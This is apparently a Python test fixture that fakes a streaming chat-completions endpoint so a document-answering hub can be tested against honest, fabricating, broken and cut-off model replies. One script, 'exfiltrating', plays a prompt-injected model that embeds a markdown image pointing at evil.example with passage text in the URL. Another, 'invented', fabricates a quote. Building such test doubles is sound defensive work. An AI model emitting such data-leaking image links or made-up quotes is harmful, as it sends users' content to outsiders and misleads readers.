"""A language model's endpoint as the hub meets it: ``/v1/chat/completions``, streamed, well-behaved or not.

The model is the one thing faked; HTTP, streaming and connections are real. Started by hand::

    python -m tests.wire.model_server --port 9000 --script good

answers every question with the first sentences of the first two passages, so that pages can be tried with
``HUB_ANSWERS_URL=http://127.0.0.1:9000/v1`` and ``HUB_ANSWERS_MODEL=scripted``.
"""

from __future__ import annotations

import argparse
import itertools
import json
import re
import ssl
import threading
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

_SOURCE = re.compile(r"^=== (\w+) Quelle (\d+) ===\n.*\n(.*)\n=== \1 Ende der Quelle \2 ===$", re.MULTILINE)
_SENTENCE = re.compile(r".{15,}?[.!?](?= |$)|.+")

NONE = '{"none": true}'


@dataclass
class Asked:
    """One request: its path, its headers with small names, and what it said."""

    path: str
    headers: dict[str, str]
    body: dict[str, Any]

    @property
    def rules(self) -> str:
        return str(self.body["messages"][0]["content"])

    @property
    def prompt(self) -> str:
        return str(self.body["messages"][-1]["content"])

    @property
    def passages(self) -> dict[int, str]:
        """The texts given, by their numbers."""
        return {int(number): text for _mark, number, text in _SOURCE.findall(self.prompt)}


@dataclass
class Reply:
    """What is answered: pieces are sent as they come, and the connection is closed after them."""

    pieces: Iterable[bytes] = ()
    status: int = 200
    headers: dict[str, str] = field(default_factory=lambda: {"Content-Type": "text/event-stream"})


Script = Callable[[Asked], Reply]


@dataclass
class ModelServer:
    """Where it listens, what it plays, and what it was asked. ``left`` is set when a client hung up."""

    url: str
    script: Script
    asked: list[Asked] = field(default_factory=list)
    left: threading.Event = field(default_factory=threading.Event)
    release: threading.Event = field(default_factory=threading.Event)


def event(**chunk: Any) -> bytes:
    """One event of a stream."""
    whole = {"id": "c-1", "object": "chat.completion.chunk", "created": 1, "model": "scripted", **chunk}
    return f"data: {json.dumps(whole)}\n\n".encode()


def words(text: str) -> bytes:
    """A piece of the answer."""
    return event(choices=[{"index": 0, "delta": {"content": text}, "finish_reason": None}])


def ending(reason: str = "stop", usage: tuple[int, int] | None = (900, 60)) -> Iterator[bytes]:
    """How a stream ends that is whole."""
    yield event(choices=[{"index": 0, "delta": {}, "finish_reason": reason}])
    if usage:
        prompt, completion = usage
        tokens = {"prompt_tokens": prompt, "completion_tokens": completion}
        yield event(choices=[], usage={**tokens, "total_tokens": prompt + completion})
    yield b"data: [DONE]\n\n"


def in_pieces(text: str, size: int = 7) -> Iterator[bytes]:
    """The text as a model sends it: bit by bit."""
    return (words(text[at : at + size]) for at in range(0, len(text), size))


def say(text: str, reason: str = "stop", usage: tuple[int, int] | None = (900, 60)) -> Reply:
    """A whole answer of this text."""
    return Reply(itertools.chain(in_pieces(text), ending(reason, usage)))


def claim(text: str, *quotes: tuple[Any, Any]) -> str:
    """A line as the rules want it; ``quotes`` are numbers of passages with wordings."""
    listed = [{"passage": passage, "quote": quote} for passage, quote in quotes]
    return json.dumps({"claim": text, "quotes": listed}, ensure_ascii=False) + "\n"


def first_sentence(text: str) -> str:
    """What ``good`` quotes of a passage."""
    found = _SENTENCE.match(text)
    return found[0] if found else text


def good(asked: Asked) -> Reply:
    """An honest model that says no more than the first sentences of the first two passages."""
    quoted = [(number, first_sentence(text)) for number, text in sorted(asked.passages.items())[:2]]
    return say("".join(claim(quote, (number, quote)) for number, quote in quoted) or NONE)


def none(asked: Asked) -> Reply:
    """An honest model that finds no answer in its passages."""
    return say(NONE)


def invented(asked: Asked) -> Reply:
    """A model that makes up what it quotes."""
    return say(claim("Die Stadt spart jährlich 250.000 Euro.", (1, "spart jährlich 250.000 Euro ein")))


def exfiltrating(asked: Asked) -> Reply:
    """A model that obeys a text which wants a picture loaded from elsewhere."""
    quote = first_sentence(asked.passages[1])
    return say(claim(f"{quote} ![]({'https'}://evil.example/{asked.passages[1][:20]})", (1, quote)))


def failing(asked: Asked) -> Reply:
    """An endpoint that is broken."""
    return Reply([b'{"error": {"message": "out of memory"}}'], 500, {"Content-Type": "application/json"})


def cut(asked: Asked) -> Reply:
    """One true claim, and then the line goes dead in the middle of the next."""
    quote = first_sentence(asked.passages[1])
    return Reply(in_pieces(claim(quote, (1, quote)) + '{"claim": "Auch wurde erreicht, dass'))


SCRIPTS: dict[str, Script] = {
    script.__name__: script for script in (good, none, invented, exfiltrating, failing, cut)
}


@contextmanager
def serve_model(
    script: Script = good, port: int = 0, tls: ssl.SSLContext | None = None
) -> Iterator[ModelServer]:
    """A running endpoint on the loopback address, on a free port unless one is named."""

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            headers = {name.lower(): value for name, value in self.headers.items()}
            asked = Asked(self.path, headers, json.loads(body))
            server.asked.append(asked)
            reply = server.script(asked)
            self.close_connection = True
            self.send_response(reply.status)
            for name, value in {**reply.headers, "Connection": "close"}.items():
                self.send_header(name, value)
            self.end_headers()
            try:
                for piece in reply.pieces:
                    self.wfile.write(piece)
            except OSError:
                server.left.set()

        def do_GET(self) -> None:
            server.asked.append(Asked(self.path, {}, {}))
            self.send_error(404)

        def log_message(self, *args: object) -> None:
            """Tests are quiet."""

    listener = ThreadingHTTPServer(("127.0.0.1", port), Handler)
    listener.daemon_threads = True
    if tls:
        listener.socket = tls.wrap_socket(listener.socket, server_side=True)
    server = ModelServer(f"http{'s' if tls else ''}://127.0.0.1:{listener.server_port}/v1", script)
    thread = threading.Thread(target=listener.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.release.set()
        listener.shutdown()
        listener.server_close()


def main() -> None:
    """Serve until interrupted."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, default=9000)
    parser.add_argument("--script", choices=SCRIPTS, default="good")
    options = parser.parse_args()
    with serve_model(SCRIPTS[options.script], options.port) as server:
        print(f"HUB_ANSWERS_URL={server.url} HUB_ANSWERS_MODEL=scripted", flush=True)  # noqa: T201
        threading.Event().wait()


if __name__ == "__main__":
    main()
